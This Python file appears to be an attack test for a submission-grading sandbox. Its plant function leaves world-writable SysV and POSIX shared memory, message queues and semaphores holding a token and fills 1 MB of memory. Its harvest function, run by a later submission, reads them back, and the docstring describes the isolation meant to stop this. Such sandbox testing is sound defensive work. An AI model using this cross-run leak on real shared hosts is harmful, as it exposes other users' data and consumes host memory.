"""Attack: leave SysV shared memory, a message queue, a semaphore set, a POSIX message queue and a POSIX
shared memory object (all mode 0666) behind, for the next submission to read, or to hold the host's memory.

``plant`` creates them under fixed keys and names and writes a token; ``harvest`` (another submission)
looks them up by those keys and reads what it finds.
Defense: at the namespaced levels the child has its own IPC namespace (its objects die with it); at
the ``uid`` level the sandbox uid's IPC objects are removed when the sandbox closes and when its slot
is taken again.
"""

import ctypes
import ctypes.util
import os

import torch

KEY = 0x5EC7E7
MQ_NAME = b"/vitgrade_leak"
SHM_PATH = "/dev/shm/vitgrade_leak"  # what shm_open("/vitgrade_leak") creates
IPC_CREAT, IPC_NOWAIT, O_RDONLY, O_CREAT, O_RDWR, O_NONBLOCK = 0o1000, 0o4000, 0, 0o100, 2, 0o4000
SIZE = 1 << 20

_libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_libc.msgsnd.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_libc.msgrcv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long, ctypes.c_int]
_libc.msgrcv.restype = ctypes.c_ssize_t
try:
    _rt = ctypes.CDLL(ctypes.util.find_library("rt") or "librt.so.1", use_errno=True)
except OSError:
    _rt = _libc
_rt.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
_rt.mq_send.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_uint]
_rt.mq_receive.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_void_p]
_rt.mq_receive.restype = ctypes.c_ssize_t


class _Message(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 64)]


def plant(token: str) -> torch.Tensor:
    """Create the four objects holding ``token``; 1 for each one created."""
    made = [0, 0, 0, 0, 0]
    shm = _libc.shmget(KEY, SIZE, IPC_CREAT | 0o666)
    if shm >= 0:
        address = _libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, token.encode(), len(token))
            ctypes.memset(address + 4096, 1, SIZE - 4096)  # touch the pages: real memory
            _libc.shmdt(address)
            made[0] = 1
    queue = _libc.msgget(KEY, IPC_CREAT | 0o666)
    if queue >= 0:
        message = _Message(1, token.encode())
        made[1] = int(_libc.msgsnd(queue, ctypes.byref(message), 64, 0) == 0)
    made[2] = int(_libc.semget(KEY, 4, IPC_CREAT | 0o666) >= 0)
    os.umask(0)
    mq = _rt.mq_open(MQ_NAME, O_CREAT | O_RDWR, 0o666, None)
    if mq >= 0:
        made[3] = int(_rt.mq_send(mq, token.encode(), len(token), 0) == 0)
        os.close(mq)
    try:
        with open(os.open(SHM_PATH, os.O_CREAT | os.O_WRONLY, 0o666), "w") as handle:
            handle.write(token)
        made[4] = 1
    except OSError as error:
        print("no POSIX shm", error)
    print("PLANTED", made)
    return torch.tensor(made)


def harvest() -> torch.Tensor:
    """1 for each object of ``plant`` found (under its key or name), printing what it holds."""
    found = [0, 0, 0, 0, 0]
    shm = _libc.shmget(KEY, 0, 0)
    if shm >= 0:
        found[0] = 1
        address = _libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            print("FOUND shm", ctypes.string_at(address, 64))
            _libc.shmdt(address)
    queue = _libc.msgget(KEY, 0)
    if queue >= 0:
        found[1] = 1
        message = _Message()
        if _libc.msgrcv(queue, ctypes.byref(message), 64, 0, IPC_NOWAIT) > 0:
            print("FOUND msg", message.mtext)
    found[2] = int(_libc.semget(KEY, 0, 0) >= 0)
    mq = _rt.mq_open(MQ_NAME, O_RDONLY | O_NONBLOCK, 0, None)
    if mq >= 0:
        found[3] = 1
        buffer = ctypes.create_string_buffer(8192)
        if _rt.mq_receive(mq, buffer, 8192, None) > 0:
            print("FOUND mq", buffer.value)
        os.close(mq)
    try:
        with open(SHM_PATH) as handle:
            print("FOUND POSIX shm", handle.read())
        found[4] = 1
    except OSError:
        pass
    print("HARVEST", found)
    return torch.tensor(found)
